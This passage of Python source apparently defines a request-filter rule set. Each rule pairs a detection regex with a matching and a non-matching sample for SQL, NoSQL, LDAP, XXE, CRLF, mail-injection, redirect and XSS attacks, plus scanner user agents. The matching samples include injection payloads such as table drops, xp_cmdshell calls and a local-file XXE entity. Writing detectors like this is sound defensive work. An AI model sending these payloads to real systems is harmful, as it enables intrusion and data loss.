        r".{0,400}\{%-?\s*end\w*\s*-?%\}|<%[=-]?\s*(?:if|unless|for|while|each)\b[^%]{0,200}%>"
        r".{0,400}<%-?\s*end\w*\s*-?%>",
        "{% if True %}49{% endif %}",
        "{% a percent %} of {% the total %}",
    ),
    # --- NoSQL injection --------------------------------------------------------------
    Rule(
        "nosqli-operator-name",
        "nosqli",
        NAMES,
        r"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|not|expr|"
        r"function|accumulator|elemmatch|all|size|type|mod|text|jsonschema|options)\s*\]|"
        r"^\s*\$(?:ne|nin|regex|where|function|accumulator|expr|jsonschema)\s*$",
        "user[$ne]",
        "user[name]",
    ),
    Rule(
        "nosqli-operator-bracket",
        "nosqli",
        VALUES,
        r"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|not|expr|"
        r"function|elemmatch)\s*\]",
        "u_id[$ne]",
        "u_id[ne]",
    ),
    Rule(
        "nosqli-operator-json",
        "nosqli",
        VALUES,
        r"\{\s*[\"']?\$(?:ne|gt|gte|lt|lte|nin|in|regex|exists|eq|not)[\"']?\s*:\s*(?:null|\"\"|"
        r"''|\[\s*\]|\{\s*\}|[\"']\.\*[\"']|[\"']\^|true|-?[01])\s*[,}]|"
        r"[\"']\$(?:where|function|accumulator)[\"']\s*:|"
        # a string closed and an operator key added after it: `', $or: [ {}, {...`
        r"^[^'\"]{0,100}['\"]\s*,\s*['\"]?\$(?:or|and|nor|where|ne|gt|regex)['\"]?\s*:",
        '{"$ne": null}',
        '{"$gte": 21}',
    ),
    Rule(
        "nosqli-where-js",
        "nosqli",
        VALUES,
        r"\$where\s*[\"':]|\bthis\s*\.\s*\w+\s*(?:==|!=|\.match\s*\()|\bdb\s*\.\s*\w+\s*\.\s*"
        r"(?:find|insert|update|remove|drop|aggregate)\w*\s*\(|\bsleep\s*\(\s*\d+\s*\)\s*[|;]|"
        r"['\"]\s*;\s*return\s+(?:true|1|this)|\|\|\s*['\"]?1['\"]?\s*==\s*['\"]?1",
        "'; return true; var x='",
        "return to sender",
    ),
    # --- LDAP injection ------------------------------------------------------------------
    Rule(
        "ldapi-filter",
        "ldapi",
        VALUES | NAMES,
        r"^[^()]*\)+\s*[|&!]?\s*\(\s*(?:[|&!]|[\w.;-]+\s*[~<>]?=)|\*\s*\)\s*\(|"
        r"^[^()]*\)+\s*\(\s*[&|]\s*\)|^\s*\*\s*\)|^[^()]*\)+\s*[|&!]\s*\(|"
        # (a whole filter sent as a value, `(&(objectCategory=group)(...))`, is what
        # directory tools send: only a filter broken out of is an injection)
        r"^[^()]*\(\s*(?:objectclass|uid|cn|sn|mail|userpassword|samaccountname)\s*=\s*\*\s*\)",
        "admin)(&(objectClass=*)",
        "f(x) (y) = z",
    ),
    # --- XML external entities ---------------------------------------------------------------
    Rule(
        "xxe-entity",
        "xxe",
        XML_CARRIERS | {AREA_BODY_NAME},
        r"<!entity\b|<!doctype\s+[\w:-]+\s*(?:system|public)\b|<!doctype\s+[\w:-]+\s*\[|"
        r"<xi:include\b|\bxmlns:xi\s*=|<!\[cdata\[[^\]]*<script|\bsystem\s+[\"'](?:file|http|"
        r"https|ftp|php|expect|jar|gopher|netdoc|data):",
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>',
        "<!DOCTYPE html>",
    ),
    Rule(
        # XML sent in a parameter that tells the server's parser to fetch a schema from
        # another host (an out-of-band probe); schema files in documents are content
        "xxe-external-schema",
        "xxe",
        VALUES - {AREA_RAW_BODY, AREA_USER_AGENT} | NAMES,
        r"<[\w:-]+\s[^>]*\bxsi:(?:nonamespace)?schemalocation\s*=\s*['\x22][^'\x22]*"
        r"(?:https?|ftp)://",
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
        '<a xsi:type="xs:string">a</a>',
    ),
    # --- protocol attacks: CRLF, response splitting, smuggling, mail -------------------------
    Rule(
        "crlf-header-injection",
        "crlf",
        PROTOCOL,
        # a header needs a value: `\r\nLocation:` with nothing after it sets nothing
        r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length|disposition)|"
        r"transfer-encoding|refresh|x-[\w-]+|access-control-[\w-]+|host|cookie|"
        r"[\w-]{2,40}):\s*[^\s]",
        "x\r\nSet-Cookie: a=1",
        "line one",
    ),
    Rule(
        "crlf-response-splitting",
        "crlf",
        PROTOCOL | {AREA_BODY_VALUE},
        r"[\r\n]\s*http/\d(?:\.\d)?\s+\d{3}|[\r\n]{2}\s*<(?:html|script|body|head|title)|"
        r"[\r\n]\s*(?:get|post|put|head|delete|options|patch|trace|connect)\s+\S+\s+http/\d",
        "x\r\n\r\n<html><title>x</title></html>",
        "two\n\nparagraphs",
    ),
    Rule(
        "crlf-request-line",
        "crlf",
        PROTOCOL,
        r"^\s*(?:get|post|put|head|delete|options|patch|trace|connect)\s+(?:/|https?://)\S*\s+"
        r"http/\d",
        "GET http://evil.example/ HTTP/1.1",
        "get well soon",
    ),
    Rule(
        "crlf-param-injection",
        "crlf",
        frozenset({AREA_QUERY_VALUE, AREA_QUERY_NAME, AREA_PATH}),
        r"[\r\n][\w.\[\]-]{1,64}=",
        "a\nnext=more",
        "a next=more",
    ),
    Rule(
        "crlf-line-break-in-name",
        "crlf",
        frozenset({AREA_QUERY_NAME, AREA_PATH, AREA_HEADER}),
        r"[\r\n]",
        "parameter\r\n",
        "parameter",
    ),
    Rule(
        # a header line written into a form value (response splitting through a
        # field the application copies into a header)
        "crlf-body-header-injection",
        "crlf",
        frozenset({AREA_BODY_VALUE}),
        r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length)|transfer-encoding)\s*:\s*[^\s]",
        "x\r\nContent-Length: 0",
        "Location: Berlin",
    ),
    Rule(
        # a Content-Type whose parameter holds another media type
        # (`application/x-www-form-urlencoded;boundary="application/json"`): sent only to
        # make a filter pick the wrong body parser; multipart/related names its root
        # part's `type` legitimately, so only application/* and text/* are looked at
        "scanner-content-type-confusion",
        "scanner",
        frozenset({AREA_HEADER}),
        r"^\s*(?:application|text)/[\w.+-]+\s*[;,](?:[^;,]*[;,])*?\s*"
        r"(?:[\w-]*(?:[^\W_e]|[^\W_p]e|[^\W_y]pe|[^\W_t]ype)|e|pe|ype)\s*=\s*\x22?\s*"
        r"(?:application|text|multipart|image|audio|video|font|model|message)/[\w.+-]+\s*\x22?\s*"
        r"(?:[;,]|$)",
        'application/x-www-form-urlencoded;boundary="application/json"',
        'application/xop+xml; charset=UTF-8; type="application/soap+xml"',
    ),
    Rule(
        "ssrf-unix-socket",
        "ssrf",
        VALUES | NAMES | {AREA_PATH},
        r"\bunix:[^|\s]*\|\s*(?:https?|ftp|fcgi|ajp|h2c?)://",
        "unix:AAAAAAAAAA|http://example.com/",
        "unix: the os",
    ),
    Rule(
        "mail-injection-header",
        "mail_injection",
        VALUES,
        r"[\r\n]\s*(?:to|cc|bcc|from|reply-to|subject|sender|return-path)\s*:\s*[^\r\n]*@|"
        r"[\r\n]\s*(?:cc|bcc)\s*:",
        "me@example.com\r\nBcc: you@example.com",
        "to: me",
    ),
    Rule(
        "mail-injection-command",
        "mail_injection",
        VALUES,
        r"\r\n?\s*(?:helo|ehlo|mail\s+from|rcpt\s+to|data|vrfy|expn|help|quit|rset|noop|"
        r"starttls|auth\s+\w+|user|pass|retr|dele|list|stat|top|uidl|apop)\b[^\r\n]*|"
        r"\n\s*(?:helo|ehlo|mail\s+from\s*:|rcpt\s+to\s*:|vrfy|expn)\b"
        r"|^\s*[\w.-]+\s+(?:login|select|fetch|capability|examine|store|logout|authenticate|"
        r"copy|uid\s+\w+)\b[^\r\n]*[\r\n]|[\r\n]\s*[a-z]\d+\s+(?:login|select|fetch|capability|"
        r"examine|store|logout|list|status|append|search|quit|noop|expunge|uid)\b",
        "x\r\nRCPT TO:<a@example.com>",
        "help me",
    ),
    # --- open redirect -----------------------------------------------------------------------
    Rule(
        "redir-protocol-relative",
        "redir",
        frozenset({AREA_QUERY_VALUE, AREA_BODY_VALUE}),
        r"^\s*(?:/[\\/\t]|\\/|/%09/|/%5c|\\%2f)[^\\/\s]|^\s*https?:(?:/?\\|\\\\|/{3,})|"
        r"^\s*https?://[\w-]+\.[\w.-]+@[\w-]+\.|^\s*//[^/\s]+\.[a-z]{2,}(?:[/?#]|$)[^\s]*(?:@|%40)",
        "/\\evil.example",
        "/home/page",
    ),
    # --- scanners ----------------------------------------------------------------------------
    Rule(
        "scanner-user-agent",
        "scanner",
        frozenset({AREA_USER_AGENT}),
        r"\b(?:sqlmap|nikto|nessus|nmap scripting engine|nmap|masscan|zgrab|zmap|acunetix|"
        r"netsparker|w3af|dirbuster|gobuster|dirb|wpscan|whatweb|openvas|arachni|havij|nuclei|"
        r"ffuf|feroxbuster|wfuzz|skipfish|appscan|webinspect|paros|commix|fimap|sqlninja|"
        r"bsqlbf|pangolin|jaeles|zmeu|morfeus|brutus|hydra|medusa|jorgee|metis|"
        r"netlab360|censysinspect|nsauditor|owasp[ _]zap|zap/|burp(?:suite|collaborator)?|"
        r"qualys|detectify|crowdstrike|wprecon|joomscan|droopescan|cmsmap|xsstrike|xsser|"
        r"dotdotpwn|t3stpwn|blackwidow|webshag|vega/|struts-pwn|log4j-scan|interactsh|"
        r"httpx - open-source|fuzz faster u fool|python-httpx/[\d.]+ \(scanner\)|"
        r"mozilla/5\.0 sf/|sf/\d|\(hydra\)|nasl|n-stealth|webtrends security|"
        r"(?:security|vulnerability) scanner)\b",
        "sqlmap/1.7 (https://sqlmap.org)",
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
    ),
    # --- SQL signatures (kept even when the tokenizer is off) ------------------------------
    Rule(
        "sqli-union-select",
        "sqli",
        ANYWHERE,
        r"\bunion(?:\s|/\*.*?\*/|\+|\(|%20)+(?:all|distinct)?(?:\s|/\*.*?\*/|\+|\()*select\b",
        "1 UNION ALL SELECT null,null--",
        "the union selected a leader",
    ),
    Rule(
        "sqli-quote-tautology",
        "sqli",
        ANYWHERE,
        r"['\"`)]\s*(?:or|and|xor|\|\||&&)\s*[(\s]*['\"`]?[\w-]+['\"`]?\s*(?:=|<>|!=|like|>|<|"
        r"\bis\b)\s*['\"`]?[\w-]*['\"`]?|['\"]\s*(?:or|and)\s*['\"]?\d+['\"]?\s*(?:--|#|;|/\*|$)",
        "1' OR '1'='1",
        "rock 'n' roll",
    ),
    Rule(
        "sqli-numeric-tautology",
        "sqli",
        ANYWHERE,
        r"^\s*-?\d+\s*\)?\s+(?:or|and|xor|\|\||&&)\s+\(?\s*(?:\d+|'[^']*'|true|false)\s*"
        r"(?:=|<>|!=|>|<|like)\s*(?:\d+|'[^']*'|true|false)",
        "1234 OR 1=1",
        "1 or 2 items",
    ),
    Rule(
        "sqli-time-function",
        "sqli",
        ANYWHERE,
        r"\b(?:sleep|pg_sleep|benchmark|dbms_lock\.sleep|dbms_pipe\.receive_message|"
        r"randomblob)\s*\(\s*(?:/\*.*?\*/\s*)*['\"]?\d+(?:\.\d+)?['\"]?\s*(?:[),]|/\*)|\bwaitfor\s+(?:delay|time)\s+['\"]|"
        r"\b(?:select|and|or|;)\s+(?:pg_sleep|sleep|benchmark)\b|\bsysdate\s*\(\s*\)\s*,\s*sleep",
        "1 AND SLEEP(5)",
        "sleep tight",
    ),
    Rule(
        "sqli-error-function",
        "sqli",
        ANYWHERE,
        r"\b(?:extractvalue|updatexml|exp|gtid_subset|json_keys|polygon|multipoint|"
        r"geometrycollection|linestring|name_const|xmltype|utl_inaddr\.get_host_name|"
        r"ctxsys\.drithsx\.sn|dbms_xmlgen\.getxml)\s*\(\s*(?:\d|\(|\w+\s*\(|['\"]|0x)"
        r"[^)]{0,200}(?:concat|select|version|user|database|0x7e|@@)",
        "extractvalue(1,concat(0x7e,version()))",
        "extract value(s)",
    ),
    Rule(
        "sqli-system-objects",
        "sqli",
        ANYWHERE,
        r"\b(?:information_schema|sysobjects|syscolumns|sys\.(?:objects|tables|columns|"
        r"databases|sql_logins)|pg_catalog|pg_shadow|pg_user|sqlite_master|sqlite_schema|"
        r"mysql\.user|msysaccessobjects|msysobjects|all_tables|user_tables|all_tab_columns|"
        r"dba_users|v\$version|sysibm\.\w+|syscat\.\w+|xp_cmdshell|xp_regread|xp_dirtree|"
        r"sp_oacreate|sp_executesql|sp_password|sp_addlogin|openrowset|opendatasource)\b",
        "select * from information_schema.tables",
        "information schema",
    ),
    Rule(
        "sqli-version-variable",
        "sqli",
        ANYWHERE,
        r"@@(?:version|datadir|hostname|basedir|tmpdir|servername|spid|identity|rowcount|"
        r"language|character_set\w*|global\.\w+|session\.\w+)\b|\bversion\s*\(\s*\)\s*(?:--|#|,|"
        r"\)|=)",
        "1 and @@version>0",
        "version 2.0",
    ),
    Rule(
        "sqli-stacked-statement",
        "sqli",
        ANYWHERE,
        r"['\")\d]\s*;\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|"
        r"procedure|function|view|index)\b|['\")\d]\s*;\s*(?:delete\s+from|insert\s+into|"
        r"update\s+[\w.`\[\]]+\s+set|exec(?:ute)?\s+(?:xp_|sp_|master\.)|shutdown\b|"
        r"declare\s+@|select\s+(?:\*|\d|@@|[\w.]+\s*\(|pg_sleep|sleep))",
        "1; DROP TABLE users--",
        "1; drop us a line",
    ),
    Rule(
        "sqli-comment-evasion",
        "sqli",
        ANYWHERE,
        r"/\*!\d*\s*(?:select|union|and|or|insert|update|delete|from|where|concat|sleep)\b|"
        r"\b(?:select|union|from|where|and|or)/\*.*?\*/(?:select|union|from|where|and|or|"
        r"\w+\s*\()|\bunion\s*/\*|\bselect\s*/\*",
        "/*!50000select*/",
        "/* a comment */",
    ),
    Rule(
        "sqli-quote-comment",
        "sqli",
        ANYWHERE,
        r"^[\w.@-]{1,64}['\"`]\s*\)*\s*(?:--[\s-]|#|/\*|;\s*(?:--|#|$))|"
        r"^[\w.@-]{1,64}['\"]\s*\)*\s*--$",
        "admin'--",
        "o'clock",
    ),
    Rule(
        "sqli-into-outfile",
        "sqli",
        ANYWHERE,
        r"\binto\s+(?:out|dump)file\s+['\"]|\bload_file\s*\(|\bload\s+data\s+(?:local\s+)?"
        r"infile\b|\bselect\b[^;]{1,200}\binto\s+@",
        "' into outfile '/tmp/x'",
        "load the file",
    ),
    Rule(
        "sqli-char-concat",
        "sqli",
        ANYWHERE,
        r"\b(?:char|chr|nchar)\s*\(\s*\d+\s*\)\s*(?:\+|\|\||,)\s*(?:char|chr|nchar)\s*\(|"
        r"\b(?:concat|concat_ws|group_concat)\s*\(\s*(?:0x[0-9a-f]+|char\s*\(|@@|"
        r"(?:user|database|version|schema)\s*\(\s*\))|\bchar\s*\(\s*\d+\s*(?:,\s*\d+\s*){3,}\)",
        "CHAR(97)+CHAR(100)",
        "char(s)",
    ),
    Rule(
        "sqli-order-by-probe",
        "sqli",
        ANYWHERE,
        r"['\")\d]\s*(?:order|group)\s+by\s+\d+\s*(?:--|#|/\*|;|$)|"
        r"['\")]\s*(?:having|procedure\s+analyse)\b",
        "1' ORDER BY 3--",
        "order by 3 pm",
    ),
    Rule(
        "sqli-select-from",
        "sqli",
        ANYWHERE,
        r"(?:^|['\");(]|\d\s)\s*select\s+(?:\*|(?:top\s+\d+\s+)?(?:[\w.`\[\]]+\s*,\s*)+[\w.`\[\]]+|"
        r"count\s*\(\s*\*"
        r"\s*\)|\w+\s*\(\s*\)|@@\w+)\s+from\s+[\w.`\[\]]+",
        "select * from users",
        "select the best option from the list",
    ),
    Rule(
        "sqli-conditional",
        "sqli",
        ANYWHERE,
        r"['\")\d]\s*(?:and|or|&&|\|\|)\s*\(?\s*(?:if|case\s+when|iif|elt|make_set|"
        r"substring|substr|mid|ascii|ord|length|count|exists|select)\s*\(",
        "1' AND IF(1=1,SLEEP(5),0)--",
        "me and if(you)",
    ),
    Rule(
        # the whole value opens a call to an SQL function and stops there: the probe
        # that tests whether the value lands inside a query (`abs(`, `SLEEP   (`)
        "sqli-function-probe",
        "sqli",
        VALUES | NAMES,
        r"^\s*['\"`]?\s*(?:abs|ascii|benchmark|bin|cast|ceil|ceiling|char|char_length|chr|"
        r"coalesce|compress|concat|concat_ws|convert|cos|count|current_user|database|date|db_name|"
        r"decode|default|elt|encode|exp|extractvalue|field|find_in_set|floor|from_base64|group_concat|"
        r"format|hex|if|ifnull|iif|in|insert|instr|isnull|json_extract|lcase|left|length|ln|load_file|locate|log|"
        r"lower|lpad|ltrim|make_set|max|md5|mid|min|name_const|now|nullif|oct|ord|pg_sleep|pi|"
        r"pow|power|rand|randomblob|repeat|replace|reverse|right|round|rpad|rtrim|schema_name|"
        r"sha1|sha2|sin|sleep|strcmp|substr|substring|substring_index|sum|sysdate|system_user|time|"
        r"to_base64|trim|ucase|uncompress|unhex|updatexml|upper|user|user_name|utl_http|"
        r"utl_inaddr|values|version|xmltype)\s*(?:/\*[^*]{0,20}\*/\s*)?\\?\(\s*$",
        "SLEEP   (",
        "sleep well (",
    ),
    Rule(
        # the whole value is an SQL comparison with nothing to compare: the probe that
        # checks whether an operator reaches a WHERE clause (`IS NULL`, `in (0,1)`)
        "sqli-operator-probe",
        "sqli",
        VALUES | NAMES,
        r"^\s*(?:is\s+(?:not\s+)?null|(?:not\s+)?like\s+null|(?:not\s+)?in\s*\(\s*-?\d+(?:\s*,\s*"
        r"-?\d+)+\s*\)|<=>|(?:not\s+)?(?:rlike|regexp)\s+['\"]|sounds\s+like\s+['\"])\s*$",
        "in (2147483647,-1)",
        "in (2 weeks)",
    ),
    Rule(
        # a closed string, then a call of a function that only probing needs:
        # `2010-01-01' sleep(20)`, `x" || benchmark(`
        "sqli-quote-attack-function",
        "sqli",
        ANYWHERE,
        r"['\"`]\s*\)*\s*(?:[-+|&^*/%=<>!]{1,3}|\b(?:or|and|xor|div|mod|like|rlike|regexp)\b"
        r")?\s*\(?\s*(?:sleep|pg_sleep|benchmark|extractvalue|updatexml|load_file|name_const|"
        r"gtid_subset|randomblob|dbms_pipe\.receive_message|utl_inaddr\.get_host_name|"
        r"dbms_lock\.sleep|sys\.fn_\w+)\s*\(",
        "2010-01-01' sleep(20.to_i) '",
        "she said 'sleep early' (again)",
    ),
    Rule(
        # a value that starts by ending the application's statement: `;drop`, `; select`
        "sqli-leading-stacked",
        "sqli",
        ANYWHERE,
        r"^(?:[\w.\[\]-]{1,40}=)?\s*['\"`]?\s*\)*\s*;+\s*(?:/\*.*?\*/\s*)*(?:select|insert|"
        r"update|delete|drop|alter|create|truncate|exec|execute|declare|shutdown|waitfor|"
        r"replace|rename|grant|revoke|set\s+@@?\w+)\b|"
        r"^(?:[\w.\[\]-]{1,40}=)?\s*[;>]?\s*set\s+@@?[a-z_]+\b\s*(?::?=|$)|"
        r"^\s*declare\s*(?:/\*.*?\*/\s*)*@\w+",
        ";update users",
        "; and then select one",
    ),
    Rule(
        # an inline comment that splits or pads a keyword: `DR/**/OP`, `DROP/*x*/t`
        "sqli-comment-split",
        "sqli",
        ANYWHERE,
        r"\b(?:dr|sel|se|un|uni|ins|upd|del|ex|ec|dec|trun|al|wh|fr|or|an)/\*[^*]{0,20}\*/(?:op|"
        r"ect|lect|ion|on|ert|ate|ete|ec|exec|lare|cate|ter|ere|om|der|d)\b|"
        r"\b(?:drop|select|union|insert|update|delete|alter|truncate|declare|exec|execute|"
        r"shutdown)(?:\s*/\*[^*]{0,40}\*/)+\s*(?:[\w@`\[(*]|$)",
        "DR/**/OP/*bypass deny listing*/sampletable",
        "please select one /* optional */",
    ),
    Rule(
        # a destructive statement that comments the rest of the query out
        "sqli-statement-terminated",
        "sqli",
        ANYWHERE,
        r"^\s*['\")]?\s*(?:drop|truncate)\s+(?:table\s+|database\s+)?[\w.`\[\]]+\s*;\s*"
        r"(?:--|#|/\*)",
        "DROP sampletable;--",
        "drop the table; then rest",
    ),
    Rule(
        # hex and bit literals that carry a statement, and casts only PostgreSQL reads
        "sqli-encoded-literal",
        "sqli",
        ANYWHERE,
        r"\bselect\s+0x[0-9a-f]{4,}\b|\bset\s+@\w+\s*=\s*(?:x'[0-9a-f]{8,}'|b'[01]{16,}'|"
        r"0x[0-9a-f]{8,})|(?:\b(?:current_user|session_user|user|version|password|"
        r"database|\d+)|\))\s*::\s*(?:int|integer|int[248]|bigint|smallint|numeric|text|"
        r"varchar|bytea|double\s+precision|regclass|oid)\b",
        "select 0x616263",
        "select 0 items",
    ),
    Rule(
        # JSON functions and operators used to reach the database's JSON support
        "sqli-json-operator",
        "sqli",
        ANYWHERE,
        r"'\s*::\s*jsonb?\b|\bjson_(?:extract|unquote|keys|search|contains)\s*(?:/\*.*?\*/\s*)*"
        r"\(\s*(?:/\*.*?\*/\s*)*'|'\s*(?:#>>?|@>|<@|\?\||\?&)\s*'",
        "'{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "the json (file)",
    ),
    Rule(
        # error-based and blind extraction shapes: a derived table, the
        # `count(*), concat(...)` / `floor(rand(0)*2)` duplicate-key trick, and
        # MySQL's `1.e(` number-before-call evasion
        "sqli-error-subquery",
        "sqli",
        ANYWHERE,
        r"\bfrom\s*\(\s*select\b|\bcount\s*\(\s*\*\s*\)\s*,\s*concat\s*\(|"
        r"\bfloor\s*\(\s*rand\s*\(|\b\d+\.e\s*\(\s*(?:ascii|char|substring|substr|mid|select|"
        r"concat|user|database|version|if)\b",
        "from(select count(*),concat((select 1)))",
        "from (selected items)",
    ),
    Rule(
        # a value that opens with an unmatched quote and goes straight on with SQL:
        # `' union/`, `" ALTER A`
        "sqli-quote-keyword",
        "sqli",
        ANYWHERE,
        r"^\s*'\s*(?:union|alter|drop|truncate|exec|execute|declare|shutdown)\b[^']*$|"
        r"^\s*\"\s*(?:union|alter|drop|truncate|exec|execute|declare|shutdown)\b[^\"]*$|"
        r"\\['`](?:\s*['`])?\s*(?:or|and|xor|union|having)\b",
        "' union/",
        "'Union Pacific' is a railroad",
    ),
    Rule(
        # column aliases and clauses that only appear inside a query
        "sqli-clause-fragment",
        "sqli",
        ANYWHERE,
        r"(?:\d|['\"`)])\s*as\s*['\"`][\w$]*['\"`]\s+from\b|(?:^|\s)having\s+\d+\s*[=<>]|"
        r"\)\s*when\s+\d+\s+then\b|\b(?:msdasql|sqloledb|microsoft\.(?:jet|ace)\.oledb)\b|"
        r"\bvalues\s*\(\s*(?:'[^']*'|\d+|null)\s*,|\b(?:except|intersect|minus)\s+(?:values|"
        r"select)\s*\(|\bselect\s+(?:iif|if|case|char|concat|version|user|database|sleep|"
        r"benchmark|ascii|substring)\s*\(|\bcreate\s+table\s+(?:if\s+not\s+exists\s+)?"
        r"[`\"\[]?[\w.]+[`\"\]]?\s*(?:\(|$)|\balter\s+table\s+[`\"\[]?[\w.]+[`\"\]]?\s+(?:add|drop|"
        r"change|modify|rename|alter)\b",
        '1234 AS "foobar" FROM tablevar2',
        'known as "Bob" from Texas',
    ),
    Rule(
        # ORM filter lookups taken from parameter names (Django `__` syntax): relations
        # walked to reach other tables, or secrets probed character by character
        "sqli-orm-lookup",
        "sqli",
        NAMES,
        r"^\w+__\w+__(?:\w+__)*(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|isnull|"
        r"gte?|lte?|in|range|has_keys?|has_any_keys|contained_by|contains|overlap|search)$|"
        r"^(?:\w+__)*(?:password|passwd|pwd|token|secret|hash|api_?key|otp|salt|is_admin|"
        r"is_staff|is_superuser|email|reset_\w+)__(?:i?startswith|i?endswith|i?contains|"
        r"i?regex|isnull|gte?|lte?|in|range)$|^\w+__(?:has_keys?|contained_by)$",
        "user__profile__city__startswith",
        "price__gte",
    ),
    Rule(
        "sqli-mssql-exec",
        "sqli",
        ANYWHERE,
        r"\bexec(?:ute)?\s*\(?\s*(?:master\.\.|xp_|sp_)|\bwaitfor\s+delay\b|"
        r"\bexecute\s+immediate\s+['\"]|\bprocedure\s+analyse\s*\(|"
        r"\bhaving\s+(?:count|sum|avg|min|max)\s*\([^)]*\)\s*(?:[<>=!]|like)|"
        r"\b(?:lo_get|lo_import|lo_export|pg_read_file|pg_ls_dir|pg_read_binary_file|"
        r"current_setting|set_config|query_to_xml|dblink|overlay\s*\(\s*\w+\s+placing)\s*\(|"
        r"\)\s*::\s*(?:int|integer|text|varchar|numeric|bigint)\b|"
        r"[)`'\"]\s*as\s+[`'\"]?\w+[`'\"]?\s+from\s*(?:[`\w.]+\s*)?$|"
        r"\bdeclare\s+@\w+\s+(?:n?varchar|int|sysname)",
        "exec master..xp_cmdshell 'dir'",
        "execute the plan",
    ),
    Rule(
        # keywords glued to a number or to `\N` (`SELECT-1e1FROM`, `SELECT\NFROM`, `1.FROM`):
        # MySQL's lexer splits them, people never write them so
        "sqli-glued-keywords",
        "sqli",
        ANYWHERE,
        r"\bselect[^\s\w]{0,4}[^\s]{0,40}?(?:\d\.?|\\n)(?:from|union|where|limit|into)\b|"
        r"(?:^|[\s(=])[-+]?\d+(?:\.\d*)?(?:e\d+)?(?:union|from)\s*(?:select|all|distinct|\(|`)",
        "SELECT-1e1FROM`test`",
        "select 2 from the list",
    ),
    Rule(
        "sqli-hex-payload",
        "sqli",
        ANYWHERE,
        r"['\"]\s*(?:=|\+|\|\||like)\s*0x[0-9a-f]{6,}|\b(?:unhex|hex)\s*\(\s*(?:0x|['\"]|"
        r"\w+\s*\()",
        "' = 0x61646d696e",
        "colour 0x61646d",
    ),
    # --- XSS signatures (kept even when the tokenizer is off) -------------------------------
    Rule(
        "xss-script-tag",
        "xss",
        ANYWHERE,
        r"<\s*/?\s*(?:[\w-]+:)?script\b",
        "<script>alert(1)</script>",
        "a script for the play",
    ),
    Rule(
        "xss-event-handler",
        "xss",
        ANYWHERE,
        r"<[a-z][\w:-]*[\s/][^>]*\bon[a-z]{3,}\s*=|[\"'`]\s*[/\s]*\b" + _EVENTS + r"\s*=",
        "<img src=x onerror=alert(1)>",
        "<img src=x alt=onerror>",
    ),
    Rule(
        "xss-script-url",
        "xss",
        ANYWHERE,
        r"(?:^|[\s\"'`=(<])(?:java|vb|live)\s*script\s*:" + _SCRIPT_URL_TAIL + "|"
        r"(?:^|[\s\"'`=(<])data\s*:\s*"
        r"(?:text/html|image/svg\+xml|application/(?:x-)?javascript|text/javascript)[;,]",
        "javascript:alert(1)",
        "JavaScript: Basics of JavaScript Language",
    ),
    Rule(
        "xss-dangerous-tag",
        "xss",
        ANYWHERE,
        r"<\s*i?frame\b[^>]*\b(?:src|data)\s*=\s*['\"]?\s*(?:javascript|vbscript|data):|"
        r"<\s*i?frame\b[^>]*\bsrcdoc\s*=|<\s*(?:frameset|object|embed|applet|base|meta\s[^>]*http-equiv|"
        r"link\s[^>]*(?:import|stylesheet[^>]*javascript)|xss|"
        r"isindex|vmlframe|xml\s)[^>]*(?:on[a-z]+\s*=|src\s*=|href\s*=|data\s*=|>|/)",
        "<iframe src=javascript:alert(1)>",
        "<i>frame</i>",
    ),
    Rule(
        # script URLs whose scheme is broken up by control characters that browsers
        # drop (`ja\tvascript:`, `v&newline;bscript:`), CSS `url(javascript`, VML
        # frames, JavaScript called through tagged templates or Reflect, and an
        # event handler sent as a parameter name
        "xss-evasion",
        "xss",
        ANYWHERE,
        # code right after the colon (a space there is `xss-script-url`'s to judge)
        _broken("javascript") + r":[^\s]|" + _broken("vbscript") + r":[^\s]|"
        r"<\??import[^>]{0,80}implementation\s*=|"
        r"\burl\s*\(\s*['\"]?\s*(?:java|vb)script\b|<\s*[\w-]*:\s*vmlframe\b|"
        r"\.\s*(?:call|apply|bind)\s*`[^`]{0,80}\$\{|\breflect\s*\.\s*(?:apply|construct|"
        r"\w+\s*\.\s*call)\s*[`(]|['\"`]\s*[/\s]*\b(?:formaction|srcdoc|xlink:href)\s*=",
        "v\nb\ts\nc\nr\ti\tp\nt::",
        "java script: a primer",
    ),
    Rule(
        # markup in the high half of latin-1: a page served as US-ASCII drops the top
        # bit, so `¼b¾...¼/b¾` is an element there; ¼ and ¾ as fractions never pair so
        "xss-us-ascii-tags",
        "xss",
        ANYWHERE,
        r"\x{bc}[a-z][\w:-]*[^\x{bc}\x{be}]{0,64}\x{be}[^\x{bc}]*\x{bc}\s*/\s*[a-z][\w:-]*\s*\x{be}",
        "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
        "\xbc cup sugar, \xbe cup flour, \xbc/\xbe inch",
    ),
    Rule(
        "xss-event-handler-name",
        "xss",
        NAMES | VALUES,
        # a name that ends in `=` is an attribute written into the name: any on-word
        # as long as DOM event names get (`onwebkitplaybacktargetavailabilitychanged`)
        r"^\s*['\"]?\s*(?:" + _EVENTS + r"|on[a-z]{3,40})\s*=\s*$",
        "  onload= ",
        "online",
    ),
    Rule(
        "xss-style-exec",
        "xss",
        ANYWHERE,
        r"\bstyle\s*=[^>]*(?:expression\s*\(|javascript:|behaviou?r\s*:|-moz-binding|"
        r"url\s*\(\s*['\"]?\s*(?:java|vb)script)|-moz-binding\s*:|"
        r"@import\s*['\"]?\s*(?:javascript|data):|\bexpression\s*\(\s*(?:alert|eval|prompt|"
        r"confirm|document|window)",
        '<div style="x:expression(alert(1))">',
        "style is personal",
    ),
    Rule(
        "xss-js-breakout",
        "xss",
        VALUES | NAMES,
        r"['\"`]\s*[;+\-*/|&,)]+\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|"
        r"top\.\w+|parent\.\w+)\s*[(`]|(?:^|[;({])\s*(?:alert|prompt|confirm)\s*(?:\(|`)"
        r"\s*(?:document|window|\d|['\"`]|/)|\bdocument\s*\.\s*(?:cookie|domain|write\s*\(|"
